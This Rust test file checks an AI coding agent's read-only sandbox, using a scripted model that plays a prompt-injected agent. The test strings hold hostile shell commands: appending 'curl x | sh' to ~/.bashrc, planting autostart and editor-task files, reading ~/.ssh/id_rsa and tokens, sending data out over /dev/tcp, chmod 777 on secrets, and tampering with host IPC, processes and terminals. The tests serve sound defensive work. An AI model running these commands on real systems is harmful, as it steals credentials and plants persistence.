//! Read-only is enforced, not trusted: a command classified read-only runs with nothing writable
//! but a private `/tmp`, no network, the deny-read policy, `no_new_privs` and seccomp, in every
//! approval mode and without `--sandbox`. Driven through the real `gg -p` with the scripted model
//! playing a prompt-injected model, at each available Linux level (`GG_SANDBOX_BACKEND` forces
//! it; `GG_REQUIRE_SANDBOX_LEVELS` makes a missing level fail), then the host is checked.
//!
//! To show that the kernel, not the classifier, stops a write, the tests that attack use the
//! test-hooks knob `GG_TEST_CLASSIFY_READ_ONLY=1`, which makes gg call every command read-only:
//! whatever the classifier misses tomorrow meets the same walls.
#![cfg(all(target_os = "linux", feature = "test-hooks"))]
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code: failing loudly is the point

use crate::sandbox_support;
use crate::support;

use std::io::Read;
use std::net::TcpListener;
use std::process::Output;
use std::time::Duration;

use sandbox_support::available_levels;
use serde_json::{Value, json};
use support::{GgFixture, Reply, ScriptedServer};

/// Runs `gg -p` (default approval mode, no `--sandbox`) with the model calling bash once per
/// script, at `level` (`none` for no sandbox level), with every command classified read-only when
/// `force_read_only`. Returns gg's output and the tool results.
fn run_calls(
    fx: &GgFixture,
    server: &ScriptedServer,
    level: &str,
    force_read_only: bool,
    scripts: &[&str],
    extra_args: &[&str],
) -> (Output, Vec<String>) {
    let mut env = vec![("GG_SANDBOX_BACKEND", level)];
    if force_read_only {
        env.push(("GG_TEST_CLASSIFY_READ_ONLY", "1"));
    }
    support::run_bash_calls(fx, server, &env, false, scripts, extra_args)
}

fn fixture(server: &ScriptedServer) -> GgFixture {
    GgFixture::new(server, json!({}), "repo")
}

fn audit_levels(fx: &GgFixture) -> Vec<String> {
    let out = fx.gg().args(["audit", "--json"]).output().unwrap();
    String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .map(|row| {
            row["audit"]["sandbox"]["level"]
                .as_str()
                .unwrap_or("")
                .to_string()
        })
        .collect()
}

/// The issue's first check: a read-only-classified bash call in `--approval auto`, without
/// `--sandbox`, shows `NoNewPrivs: 1` and a seccomp filter, and `gg audit` names the level.
#[test]
fn a_read_only_call_runs_with_no_new_privs_and_seccomp_without_sandbox() {
    for level in available_levels() {
        let server = ScriptedServer::start();
        let fx = fixture(&server);
        let (out, results) = run_calls(
            &fx,
            &server,
            level,
            false,
            &["cat /proc/self/status"],
            &["--approval", "auto"],
        );
        assert!(out.status.success(), "{level}: {out:?}");
        assert_eq!(results.len(), 1, "{level}: {results:?}");
        let status = &results[0];
        assert!(status.contains("NoNewPrivs:\t1"), "{level}: {status}");
        assert!(status.contains("Seccomp:\t2"), "{level}: {status}");
        assert!(
            status.contains(&format!("sandbox level: {level}+read-only")),
            "{level}: {status}"
        );
        assert_eq!(
            audit_levels(&fx),
            vec![format!("{level}+read-only")],
            "{level}"
        );
    }
}

/// What runs read-only cannot write anywhere on the host: not in the project, not a dotfile in
/// the home directory, not `.git`, not a persistence vector created fresh; and it cannot read
/// gg's state or the home's secrets. The model controls every byte of the script.
#[test]
fn a_command_run_read_only_writes_nothing_and_reads_no_secret() {
    for level in available_levels() {
        let server = ScriptedServer::start();
        let fx = fixture(&server);
        std::fs::create_dir_all(fx.home.join(".ssh")).unwrap();
        std::fs::write(fx.home.join(".ssh/id_rsa"), "SSH-KEY-CANARY").unwrap();
        std::fs::write(
            fx.home.join(".gg/web.json"),
            "{\"token\":\"WEB-TOKEN-CANARY\"}",
        )
        .unwrap();
        std::process::Command::new("git")
            .args(["init", "-q"])
            .current_dir(&fx.repo)
            .status()
            .unwrap();
        let attack = [
            "echo pwned > planted.txt",
            "echo 'curl x | sh' >> ~/.bashrc",
            "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
            "echo 'gitdir: /x' > .git/commondir",
            "echo 'export X=1' > .envrc",
            "mkdir -p ~/.config/autostart && touch ~/.config/autostart/x.desktop",
            "cat ~/.ssh/id_rsa ~/.gg/web.json ~/.gg/config.json",
        ]
        .join("; ");
        let (out, results) = run_calls(
            &fx,
            &server,
            level,
            true,
            &[
                &attack,
                "echo scratch > \"$TMPDIR/ok\" && cat \"$TMPDIR/ok\"",
            ],
            &["--yolo"],
        );
        assert!(out.status.success(), "{level}: {out:?}");
        assert_eq!(results.len(), 2, "{level}: {results:?}");
        for path in [
            fx.repo.join("planted.txt"),
            fx.home.join(".bashrc"),
            fx.repo.join(".vscode"),
            fx.repo.join(".git/commondir"),
            fx.repo.join(".envrc"),
            fx.home.join(".config/autostart"),
        ] {
            assert!(!path.exists(), "{level}: {} was written", path.display());
        }
        let attacked = &results[0];
        for canary in ["SSH-KEY-CANARY", "WEB-TOKEN-CANARY", "sk-test"] {
            assert!(!attacked.contains(canary), "{level}: {attacked}");
        }
        assert!(
            attacked.contains("ran read-only: writes and network are refused"),
            "{level}: {attacked}"
        );
        // The private temp directory stays writable, so ordinary read-only pipelines keep working.
        assert!(results[1].contains("scratch"), "{level}: {}", results[1]);
    }
}

/// Nor does it change what Landlock does not cover, the metadata of files it can reach: modes
/// (`chmod 777 ~/.ssh` made a secret readable to every local user, from a read-only `nm @file`
/// that loaded a plugin), times, extended attributes and inode flags. At each level, without and
/// with `--sandbox` (whose server mounts the project writable for its normal commands).
#[test]
fn a_command_run_read_only_changes_no_mode_time_or_attribute() {
    use std::os::unix::fs::PermissionsExt;
    for level in available_levels() {
        for flags in [&["--yolo"][..], &["--yolo", "--sandbox"]] {
            let server = ScriptedServer::start();
            let fx = fixture(&server);
            std::fs::create_dir_all(fx.home.join(".ssh")).unwrap();
            std::fs::write(fx.home.join(".ssh/id_rsa"), "SSH-KEY-CANARY").unwrap();
            std::fs::set_permissions(fx.home.join(".ssh"), PermissionsExt::from_mode(0o700))
                .unwrap();
            std::fs::set_permissions(
                fx.home.join(".ssh/id_rsa"),
                PermissionsExt::from_mode(0o600),
            )
            .unwrap();
            std::fs::write(fx.repo.join("README.md"), "readme\n").unwrap();
            let watched = [
                fx.home.join(".ssh"),
                fx.home.join(".ssh/id_rsa"),
                fx.home.join(".gg"),
                fx.repo.join("README.md"),
                fx.repo.clone(),
            ];
            // Modes of all; times of the files (gg itself adds entries to the directories).
            let look = || {
                watched
                    .iter()
                    .map(|p| {
                        let m = std::fs::symlink_metadata(p).unwrap();
                        let time = m.is_file().then(|| m.modified().unwrap());
                        (m.permissions().mode(), time)
                    })
                    .collect::<Vec<_>>()
            };
            let before = look();
            // `setxattrat` (463, Linux 6.13) by number, as a second attacker pass did: newer
            // than the libc tables, and an ACL set through it grants another user write.
            let attack = "chmod 777 ~/.ssh ~/.ssh/id_rsa ~/.gg .; chmod 000 README.md; \
                 touch -m -d @0 README.md ~/.ssh/id_rsa; setfattr -n user.x -v 1 README.md; \
                 chattr +i README.md; python3 -c 'import ctypes, struct; \
                 l = ctypes.CDLL(None, use_errno=True); v = ctypes.create_string_buffer(b\"1\"); \
                 a = ctypes.create_string_buffer(struct.pack(\"QII\", ctypes.addressof(v), 1, 0)); \
                 L = ctypes.c_long; l.syscall(L(463), L(-100), b\"README.md\", L(0), b\"user.y\", \
                 a, ctypes.c_size_t(16))'; echo tried";
            let (out, results) = run_calls(&fx, &server, level, true, &[attack], flags);
            assert!(out.status.success(), "{level} {flags:?}: {out:?}");
            assert!(
                results.first().is_some_and(|r| r.contains("tried")),
                "{level} {flags:?}: the command did not run: {results:?}"
            );
            assert_eq!(look(), before, "{level} {flags:?}: {results:?}");
            let attributes = std::process::Command::new("python3")
                .args(["-c", "import os, sys; print(os.listxattr(sys.argv[1]))"])
                .arg(fx.repo.join("README.md"))
                .output()
                .unwrap();
            assert_eq!(
                String::from_utf8_lossy(&attributes.stdout).trim(),
                "[]",
                "{level} {flags:?}: an attribute was set: {attributes:?}"
            );
        }
    }
}

/// A read-only command reaches no network, not even a loopback listener of the host.
#[test]
fn a_command_run_read_only_reaches_no_listener() {
    for level in available_levels() {
        let server = ScriptedServer::start();
        let fx = fixture(&server);
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let port = listener.local_addr().unwrap().port();
        let script = format!(
            "exec 3<>/dev/tcp/127.0.0.1/{port} && echo SECRET-DATA >&3; echo connect-status $?"
        );
        let (out, results) = run_calls(&fx, &server, level, true, &[&script], &["--yolo"]);
        assert!(out.status.success(), "{level}: {out:?}");
        let mut accepted = Vec::new();
        while let Ok((mut stream, _)) = listener.accept() {
            let mut got = String::new();
            stream
                .set_read_timeout(Some(Duration::from_millis(100)))
                .unwrap();
            let _ = stream.read_to_string(&mut got);
            accepted.push(got);
        }
        assert!(accepted.is_empty(), "{level}: {accepted:?}");
        assert!(
            !results[0].contains("connect-status 0"),
            "{level}: {results:?}"
        );
    }
}

/// `git status` run read-only leaves `.git/index` as it was, although the work tree changed
/// under it (a stale index that git would otherwise refresh).
#[test]
fn git_status_run_read_only_does_not_rewrite_the_index() {
    for level in available_levels() {
        let server = ScriptedServer::start();
        let fx = fixture(&server);
        let git = |args: &[&str]| support::git(&fx.repo, args);
        git(&["init", "-q"]);
        std::fs::write(fx.repo.join("a.txt"), "one\n").unwrap();
        std::fs::write(fx.repo.join("b.txt"), "same\n").unwrap();
        git(&["add", "a.txt", "b.txt"]);
        git(&["commit", "-qm", "one"]);
        // An unchanged file with new stat data: git refreshes its entry and so writes the
        // index whenever it may, whatever the clock's granularity (a changed file alone left
        // that to git's racy-timestamp check, which a busy machine did not always meet).
        std::fs::File::options()
            .write(true)
            .open(fx.repo.join("b.txt"))
            .unwrap()
            .set_modified(std::time::SystemTime::now() + Duration::from_secs(20))
            .unwrap();
        // Same size, new mtime (set, not waited for): git would rewrite the index to record the
        // new stat data.
        std::fs::write(fx.repo.join("a.txt"), "two\n").unwrap();
        std::fs::File::options()
            .write(true)
            .open(fx.repo.join("a.txt"))
            .unwrap()
            .set_modified(std::time::SystemTime::now() + Duration::from_secs(10))
            .unwrap();
        let index = fx.repo.join(".git/index");
        let before = std::fs::read(&index).unwrap();
        let mtime = std::fs::metadata(&index).unwrap().modified().unwrap();
        let (out, results) = run_calls(&fx, &server, level, false, &["git status"], &[]);
        assert!(out.status.success(), "{level}: {out:?}");
        assert!(results[0].contains("a.txt"), "{level}: {results:?}");
        assert!(results[0].contains("+read-only"), "{level}: {results:?}");
        // Even a git told to take its optional locks (gg's own GIT_OPTIONAL_LOCKS=0 undone by the
        // command) cannot write: the kernel refuses, not the environment.
        let forced = "GIT_OPTIONAL_LOCKS=1 git status";
        let (out, _) = run_calls(&fx, &server, level, true, &[forced], &[]);
        assert!(out.status.success(), "{level}: {out:?}");
        assert_eq!(std::fs::read(&index).unwrap(), before, "{level}");
        assert_eq!(
            std::fs::metadata(&index).unwrap().modified().unwrap(),
            mtime,
            "{level}"
        );
        // The control: unenforced, the same command does rewrite the index.
        let unenforced = [
            ("GG_TEST_CLASSIFY_READ_ONLY", "1"),
            ("GG_TEST_READ_ONLY_UNENFORCED", "1"),
        ];
        let (out, _) = support::run_bash_calls(&fx, &server, &unenforced, false, &[forced], &[]);
        assert!(out.status.success(), "{level}: {out:?}");
        assert_ne!(
            std::fs::metadata(&index).unwrap().modified().unwrap(),
            mtime,
            "{level}: the control run should have refreshed the index"
        );
    }
}

/// Where no level can confine it, the session says so once and read-only commands run on the
/// classifier's word (today's strict behaviour); nothing pretends to be enforced.
#[test]
fn without_a_level_the_session_says_so_once() {
    let server = ScriptedServer::start();
    let fx = fixture(&server);
    let (out, results) = run_calls(&fx, &server, "none", false, &["pwd", "pwd"], &[]);
    assert!(out.status.success(), "{out:?}");
    assert_eq!(results.len(), 2, "{results:?}");
    let note = "commands classified read-only run unconfined";
    assert!(results[0].contains(note), "{results:?}");
    assert!(!results[1].contains(note), "{results:?}");
    assert_eq!(audit_levels(&fx), vec!["off", "off"]);
}

/// A model that needs a read-only-looking command to write says so (`"writes": true`): the call
/// becomes normal, is decided by the mode, and runs where it can write.
#[test]
fn writes_true_makes_the_call_normal() {
    let server = ScriptedServer::start();
    let fx = fixture(&server);
    let (out, _) =
        support::run_bash_calls(&fx, &server, &[], true, &["pwd"], &["--approval", "never"]);
    assert!(out.status.success(), "{out:?}");
    let rows = fx.gg().args(["audit", "--json"]).output().unwrap();
    let row: Value = serde_json::from_slice(
        rows.stdout
            .split(|b| *b == b'\n')
            .next()
            .unwrap_or_default(),
    )
    .unwrap();
    assert_eq!(row["audit"]["classification"]["verdict"], "normal", "{row}");
    // Without --sandbox: on the host, under the guard.
    assert_eq!(row["audit"]["sandbox"]["level"], "guard", "{row}");
}

/// With `--sandbox`, a read-only command runs in the session's workspace sandbox restricted
/// further (Landlock rulesets and seccomp filters stack): it sees what an earlier normal command
/// left in the sandbox's temp directory, but writes nothing and opens no socket, even with the
/// session's network on.
#[test]
fn under_sandbox_read_only_commands_share_tmp_but_not_writes_or_network() {
    for level in available_levels() {
        let server = ScriptedServer::start();
        let fx = fixture(&server);
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let port = listener.local_addr().unwrap().port();
        server.push(Reply::tool_call(
            "w",
            "bash",
            &json!({"command": "echo kept > \"$TMPDIR/m\"", "writes": true}).to_string(),
        ));
        let attack = format!(
            "cat \"$TMPDIR/m\"; echo x > planted.txt; \
             (exec 3<>/dev/tcp/127.0.0.1/{port} && echo SECRET >&3 && echo CONNECTED)"
        );
        server.push(Reply::tool_call(
            "r",
            "bash",
            &json!({ "command": attack }).to_string(),
        ));
        server.push(Reply::text(&["done"]));
        let out = fx
            .gg()
            .env("GG_SANDBOX_BACKEND", level)
            // Every call read-only but the one that says it writes.
            .env("GG_TEST_CLASSIFY_READ_ONLY", "1")
            .args(["--yolo", "--sandbox", "--network", "on", "-p", "go"])
            .output()
            .unwrap();
        assert!(out.status.success(), "{level}: {out:?}");
        let rows = audit_levels(&fx);
        assert_eq!(
            rows,
            vec![level.to_string(), format!("{level}+read-only")],
            "{level}"
        );
        let result = server.tool_results().pop().unwrap();
        assert!(result.contains("kept"), "{level}: {result}");
        assert!(!result.contains("CONNECTED"), "{level}: {result}");
        assert!(!fx.repo.join("planted.txt").exists(), "{level}");
        assert!(listener.accept().is_err(), "{level}: a connection arrived");
    }
}

/// A project under `/tmp` (where people clone scratch checkouts) is found by its read-only
/// commands: the private `/tmp` would cover it, so the sandbox binds it back read-only, and a
/// secret inside it (here the file named by `--api-key-file`) stays hidden on top. Before this,
/// the command server could not start there and every read-only command failed with
/// "Can't chdir". At each level, with and without `--sandbox`.
#[test]
fn a_project_under_tmp_is_read_by_its_read_only_commands() {
    for level in available_levels() {
        for extra in [&[][..], &["--sandbox"][..]] {
            let server = ScriptedServer::start();
            let mut fx = fixture(&server);
            let scratch = tempfile::tempdir_in("/tmp").unwrap();
            fx.repo = scratch.path().canonicalize().unwrap().join("repo");
            std::fs::create_dir_all(&fx.repo).unwrap();
            std::fs::write(fx.repo.join("notes.txt"), "NOTES-IN-TMP").unwrap();
            std::fs::write(fx.repo.join("provider.key"), "KEYFILE-CANARY\n").unwrap();
            let key = fx.repo.join("provider.key");
            let mut args = vec!["--yolo", "--api-key-file", key.to_str().unwrap()];
            args.extend_from_slice(extra);
            let (out, results) = run_calls(
                &fx,
                &server,
                level,
                // The classifier calls reading a key file dangerous; what is tried here is the
                // sandbox's view.
                true,
                &["cat notes.txt; cat provider.key; echo end"],
                &args,
            );
            assert!(out.status.success(), "{level} {extra:?}: {out:?}");
            let text = &results[0];
            assert!(text.contains("NOTES-IN-TMP"), "{level} {extra:?}: {text}");
            assert!(text.contains("end"), "{level} {extra:?}: {text}");
            assert!(
                !text.contains("KEYFILE-CANARY"),
                "{level} {extra:?}: {text}"
            );
            assert!(
                !text.contains("could not start"),
                "{level} {extra:?}: {text}"
            );
            assert!(
                text.contains(&format!("sandbox level: {level}+read-only")),
                "{level} {extra:?}: {text}"
            );
        }
    }
}

/// The landlock level, if this machine has it (there is no IPC or PID namespace and no private
/// `/dev` at that level: the kernel rules below are all that keeps the host out of reach).
fn landlock_level() -> Option<&'static str> {
    available_levels().into_iter().find(|l| *l == "landlock")
}

/// At the landlock level, runs `script` as a read-only command (every call read-only, no
/// `--sandbox`) and as a normal command of a `--sandbox --yolo` session, each in a fresh
/// fixture, after `check` of the host for each. `what` names the run in messages.
fn at_landlock_read_only_and_sandboxed(script: &str, mut check: impl FnMut(&str, &str)) {
    let Some(level) = landlock_level() else {
        return;
    };
    for (what, force_read_only, flags) in [
        ("read-only", true, &["--yolo"][..]),
        ("--sandbox normal", false, &["--yolo", "--sandbox"][..]),
    ] {
        let server = ScriptedServer::start();
        let fx = fixture(&server);
        let mut env = vec![("GG_SANDBOX_BACKEND", level)];
        if force_read_only {
            env.push(("GG_TEST_CLASSIFY_READ_ONLY", "1"));
        }
        let (out, results) =
            support::run_bash_calls(&fx, &server, &env, !force_read_only, &[script], flags);
        assert!(out.status.success(), "{what}: {out:?}");
        let result = results.first().cloned().unwrap_or_default();
        assert!(result.contains("tried"), "{what}: did not run: {result}");
        let expected = if force_read_only {
            "sandbox level: landlock+read-only"
        } else {
            "sandbox level: landlock"
        };
        assert!(result.contains(expected), "{what}: {result}");
        check(what, &result);
    }
}

/// Runs python3 on the host and returns its output (SysV IPC has no tool that takes a key).
fn host_python(code: &str) -> String {
    let out = std::process::Command::new("python3")
        .args(["-c", code])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    String::from_utf8(out.stdout).unwrap()
}

/// A SysV shared memory segment and message queue of the host, made by the test and removed
/// when it ends.
struct HostIpc {
    key: u32,
    shm: i64,
    queue: i64,
}

impl HostIpc {
    fn new() -> HostIpc {
        let key = 0x6767_0000 | (std::process::id() & 0xffff);
        let made = host_python(&format!(
            "import ctypes; l = ctypes.CDLL(None); \
             print(l.shmget({key}, 4096, 0o1600), l.msgget({key}, 0o1600))"
        ));
        let ids: Vec<i64> = made
            .split_whitespace()
            .map(|n| n.parse().unwrap())
            .collect();
        assert!(ids.len() == 2 && ids.iter().all(|&i| i >= 0), "{made}");
        HostIpc {
            key,
            shm: ids[0],
            queue: ids[1],
        }
    }

    /// The segment's first bytes and the queue's first message (empty when none), read on the
    /// host.
    fn contents(&self) -> String {
        host_python(&format!(
            "import ctypes; l = ctypes.CDLL(None); l.shmat.restype = ctypes.c_void_p\n\
             a = l.shmat({shm}, None, 0o10000)\n\
             print(ctypes.string_at(a, 32).rstrip(b'\\0').decode(errors='replace'))\n\
             b = ctypes.create_string_buffer(80)\n\
             n = l.msgrcv({queue}, b, 64, 0, 0o4000)\n\
             print(b.raw[8:8 + max(n, 0)].decode(errors='replace'))",
            shm = self.shm,
            queue = self.queue
        ))
    }
}

impl Drop for HostIpc {
    fn drop(&mut self) {
        let _ = std::process::Command::new("ipcrm")
            .args(["-m", &self.shm.to_string(), "-q", &self.queue.to_string()])
            .status();
    }
}

/// SysV IPC of the host stays out of reach at the landlock level, where no IPC namespace
/// hides it: an attacker pass wrote a host shared memory segment and sent to a host message
/// queue from a read-only command and from a normal `--sandbox` command. The script reaches
/// them by key and by id (ids are listed in `/proc/sysvipc`); the host reads both afterwards.
#[test]
fn host_sysv_ipc_is_out_of_reach_at_the_landlock_level() {
    let ipc = HostIpc::new();
    let script = format!(
        "python3 -c 'import ctypes, struct\n\
         l = ctypes.CDLL(None, use_errno=True); l.shmat.restype = ctypes.c_void_p\n\
         print(\"shmget\", l.shmget({key}, 0, 0), ctypes.get_errno())\n\
         a = l.shmat({shm}, None, 0)\n\
         print(\"shmat\", a, ctypes.get_errno())\n\
         if a not in (None, 2**64 - 1): ctypes.memmove(a, b\"SHM-FROM-SANDBOX\", 16)\n\
         m = ctypes.create_string_buffer(struct.pack(\"l\", 1) + b\"MSG-FROM-SANDBOX\")\n\
         print(\"msgget\", l.msgget({key}, 0), \"msgsnd\", l.msgsnd({queue}, m, 16, 0o4000), \
         ctypes.get_errno())'; echo tried",
        key = ipc.key,
        shm = ipc.shm,
        queue = ipc.queue
    );
    at_landlock_read_only_and_sandboxed(&script, |what, result| {
        let host = ipc.contents();
        assert!(!host.contains("FROM-SANDBOX"), "{what}: {host}\n{result}");
        // Refused by the kernel (EPERM), not missed for another reason.
        assert!(result.contains("shmget -1 1"), "{what}: {result}");
    });
}

/// Whether the host's POSIX message queue `name` exists (opened without creating it).
fn host_queue_exists(name: &str) -> bool {
    host_python(&format!(
        "import ctypes, os\n\
         l = ctypes.CDLL(None, use_errno=True)\n\
         q = l.mq_open(b'{name}', os.O_RDONLY)\n\
         print('yes' if q >= 0 else 'no')\n\
         q >= 0 and l.mq_close(q)"
    ))
    .trim()
        == "yes"
}

/// POSIX message queues of the host stay out of reach at the landlock level: `mq_open` and
/// `mq_unlink` name a queue of the IPC namespace's own mount, not a path Landlock checks. An
/// attacker pass created a queue on the host (its open refused only after it was made) and
/// deleted a host program's queue, from a read-only command and a normal `--sandbox` one.
#[test]
fn host_posix_message_queues_are_out_of_reach_at_the_landlock_level() {
    let host_queue = format!("/gg-test-host-{}", std::process::id());
    let planted = format!("/gg-test-planted-{}", std::process::id());
    host_python(&format!(
        "import ctypes, os\n\
         l = ctypes.CDLL(None, use_errno=True)\n\
         q = l.mq_open(b'{host_queue}', os.O_CREAT | os.O_RDWR, 0o600, None)\n\
         assert q >= 0, os.strerror(ctypes.get_errno())\n\
         l.mq_close(q)"
    ));
    struct Unlink(Vec<String>);
    impl Drop for Unlink {
        fn drop(&mut self) {
            for name in &self.0 {
                let _ = std::process::Command::new("python3")
                    .args([
                        "-c",
                        &format!("import ctypes; ctypes.CDLL(None).mq_unlink(b'{name}')"),
                    ])
                    .status();
            }
        }
    }
    let _cleanup = Unlink(vec![host_queue.clone(), planted.clone()]);
    assert!(host_queue_exists(&host_queue));
    let script = format!(
        "python3 -c 'import ctypes, os\n\
         l = ctypes.CDLL(None, use_errno=True)\n\
         print(\"mq_open\", l.mq_open(b\"{planted}\", os.O_CREAT | os.O_WRONLY, 0o666, None), ctypes.get_errno())\n\
         print(\"mq_unlink\", l.mq_unlink(b\"{host_queue}\"), ctypes.get_errno())'; echo tried"
    );
    at_landlock_read_only_and_sandboxed(&script, |what, result| {
        assert!(
            host_queue_exists(&host_queue),
            "{what}: the host's queue was deleted\n{result}"
        );
        assert!(
            !host_queue_exists(&planted),
            "{what}: a queue was made on the host\n{result}"
        );
        // Refused by the kernel (EPERM), not missed for another reason.
        assert!(result.contains("mq_unlink -1 1"), "{what}: {result}");
    });
}

/// How the host schedules and limits a process: nice value, I/O class, CPU affinity, limits.
fn scheduling_of(pid: u32) -> (String, String, String, String) {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    let nice = stat
        .rsplit_once(')')
        .and_then(|(_, rest)| rest.split_whitespace().nth(16))
        .unwrap()
        .to_string();
    let io = std::process::Command::new("ionice")
        .args(["-p", &pid.to_string()])
        .output()
        .unwrap();
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let cpus = status
        .lines()
        .find(|l| l.starts_with("Cpus_allowed_list"))
        .unwrap_or_default()
        .to_string();
    let limits = std::fs::read_to_string(format!("/proc/{pid}/limits")).unwrap();
    (
        nice,
        String::from_utf8_lossy(&io.stdout).into_owned(),
        cpus,
        limits,
    )
}

/// At the landlock level a command changes nothing about how a host process is scheduled:
/// an attacker pass set a host process of the same user to idle I/O, nice 19 and one CPU
/// from a read-only command (Landlock has no hook for these). The victim has no capabilities,
/// as any process of an ordinary user (a process with more than the command refuses anyway).
#[test]
fn host_processes_keep_their_scheduling_at_the_landlock_level() {
    let root = rustix::process::geteuid().is_root();
    let mut victim = if root {
        let mut c = std::process::Command::new("setpriv");
        c.args(["--inh-caps=-all", "--bounding-set=-all", "sleep", "60"]);
        c
    } else {
        let mut c = std::process::Command::new("sleep");
        c.arg("60");
        c
    }
    .spawn()
    .unwrap();
    let pid = victim.id();
    // Until setpriv has become sleep, its capabilities are not dropped yet.
    let started = std::time::Instant::now();
    while std::fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default() != "sleep\n"
        && started.elapsed() < Duration::from_secs(5)
    {
        std::thread::sleep(Duration::from_millis(10));
    }
    let before = scheduling_of(pid);
    let script = format!(
        "renice -n 19 -p {pid}; ionice -c3 -p {pid}; taskset -p 1 {pid}; \
         prlimit --pid {pid} --nofile=3:3; python3 -c 'import ctypes; \
         l = ctypes.CDLL(None); print(\"user\", l.setpriority(2, 0, 19))'; \
         echo own-nice=$(nice -n 3 nice); echo tried"
    );
    let base: i32 = String::from_utf8(std::process::Command::new("nice").output().unwrap().stdout)
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    let own_nice = format!("own-nice={}", (base + 3).min(19));
    at_landlock_read_only_and_sandboxed(&script, |what, result| {
        assert_eq!(scheduling_of(pid), before, "{what}: {result}");
        // The command's own scheduling is still its to change (from the test's own niceness,
        // which a runner may have raised).
        assert!(result.contains(&own_nice), "{what}: {result}");
    });
    let _ = victim.kill();
    let _ = victim.wait();
}

/// At the landlock level a command cannot read another terminal of the host: an attacker
/// pass read `/dev/pts/0`, gg's own terminal, and took the lines the person typed. The test
/// makes a terminal and types a line into it; afterwards the line is still there to read.
#[test]
fn other_terminals_are_unreadable_at_the_landlock_level() {
    use rustix::fs::{Mode, OFlags};
    use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
    let master = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).unwrap();
    grantpt(&master).unwrap();
    unlockpt(&master).unwrap();
    let name = ptsname(&master, Vec::new()).unwrap();
    let name = name.to_str().unwrap().to_string();
    let terminal = rustix::fs::open(
        name.as_str(),
        OFlags::RDWR | OFlags::NOCTTY | OFlags::NONBLOCK,
        Mode::empty(),
    )
    .unwrap();
    let line = b"TYPED-SECRET-LINE\n";
    let typed = || assert_eq!(rustix::io::write(&master, line).unwrap(), line.len());
    typed();
    let script = format!("timeout 3 head -n 1 {name}; ls /dev/pts >/dev/null; echo tried");
    at_landlock_read_only_and_sandboxed(&script, |what, result| {
        assert!(!result.contains("TYPED-SECRET"), "{what}: {result}");
        // The line is still the terminal's to read, where the person's program would.
        let mut buf = [0u8; 64];
        let n = rustix::io::read(&terminal, &mut buf).unwrap_or(0);
        assert_eq!(&buf[..n], line, "{what}: {result}");
        typed();
    });
}
